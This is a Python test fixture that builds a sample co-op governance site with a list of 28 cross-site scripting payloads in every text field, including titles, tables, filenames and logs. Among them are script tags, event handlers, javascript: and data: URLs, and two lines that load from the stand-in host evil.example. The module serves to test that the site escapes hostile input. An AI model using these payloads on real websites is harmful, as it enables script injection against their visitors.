"""Twenty-eight ways of bringing a script into a page, in nine places: the prose, a title, a summary, the name of a file, the names in
the navigation, the index of the search, a cell of a table, an option of a vote, and what a member is called by.
"""

from collections.abc import Mapping
from typing import Any

from co_op import COOP, article, event, genesis, log, proposal
from folkmoot.formats.canonical import digest, write_document

CALL = "fmpwned()"
PAYLOADS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt >{CALL}</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    f"<script/x>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<img/src='x'/onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><a xlink:href='javascript:{CALL}'><text y=20>go</text></a></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{CALL} /></svg>",
    f"<math><mtext><script>{CALL}</script></mtext></math>",
    f"<iframe src='javascript:{CALL}'></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<object data='javascript:{CALL}'></object>",
    "<embed src='data:text/html,<script>1</script>'>",
    f"<a href='javascript:{CALL}'>go</a>",
    f"<a href='java&#10;script:{CALL}'>go</a>",
    f"<a href='&#1;javascript:{CALL}'>go</a>",
    "<a href='data:text/html,<script>opener.fmpwned()</script>'>go</a>",
    f"<form action='javascript:{CALL}'><button>go</button></form>",
    f"<button formaction='javascript:{CALL}' form=x>go</button>",
    f"<input autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}><summary>x</summary></details>",
    f"<video><source onerror={CALL}></video>",
    f"<body onpageshow={CALL}>",
    "<base href='//evil.example/'>",
    f"<meta http-equiv=refresh content='0; url=javascript:{CALL}'>",
)


def payload_files(payloads: tuple[str, ...] = PAYLOADS) -> dict[str, bytes]:
    """A co-op with one proposal, one article, one roster and one jury a payload, which hold it wherever text may stand."""
    files: dict[str, bytes] = dict(genesis({"charter/01-rules.md": article(title=f"Rules {payloads[0]}", body=_body("".join(payloads)))}))
    files["proposals/2023-genesis/proposal.md"] = proposal(
        "2023-genesis", "genesis", coop={**COOP, "name": f"Co-op {payloads[4]}"}, seconds=[]
    )
    for at, payload in enumerate(payloads):
        name = f"2024-payload-{at:02}"
        files |= _proposal(name, payload) | _jury(at, payload)
        files[f"proposals/{name}/changes/charter/01-rules.md"] = article(title=f"Rules {payload}", body=_body(payload))
    return files


def _body(payload: str) -> str:
    return f"\n# Heading {payload}\n\nWords {payload}\n\n{payload}\n\n| a | b |\n|---|---|\n| {payload.replace('|', '')} | c |\n\n- {payload}\n\n`{payload}`\n"


def _proposal(name: str, payload: str) -> dict[str, bytes]:
    head: dict[str, Any] = {
        "id": name, "type": "proposal", "kind": "policy", "title": f"T {payload}", "summary": f"D {payload}", "introduced_by": "m-0001",
        "seconds": ["m-0002", "m-0003"], "asks": f"A {payload}", "options": [{"id": "one", "title": f"O {payload}"}],
        "declares": [f"L {payload}"], "responds_to": payload, "cost": {"amount": "1", "currency": payload},
    }  # fmt: skip
    return {
        f"proposals/{name}/proposal.md": write_document(head, _body(payload)),
        f"proposals/{name}/log.yml": log(event("2024-01-02T12:00:00Z", "opened", ref=payload, reason=payload)),
        f"proposals/{name}/{payload.replace('/', '%2f')}.md": b"a name",
    }


def _jury(at: int, payload: str) -> Mapping[str, bytes]:
    entries = b"entry,region\nm-0001,north\nm-0002,south\n"
    roster = {
        "id": f"2024-members-{at:02}", "type": "roster", "title": payload, "summary": payload, "as_of": "2024-01-01",
        "rules_at": "2024-01-01", "count": "2", "columns": ["entry", "region"], "digest": digest(entries),
        "strata": {"region": {payload: "1", "south": "1"}}, "excluded": {"staff": "0"}, "storage": "public",
    }  # fmt: skip
    folder = f"juries/rosters/2024-members-{at:02}"
    return {f"{folder}/roster.md": write_document(roster, _body(payload)), f"{folder}/entries.csv": entries}
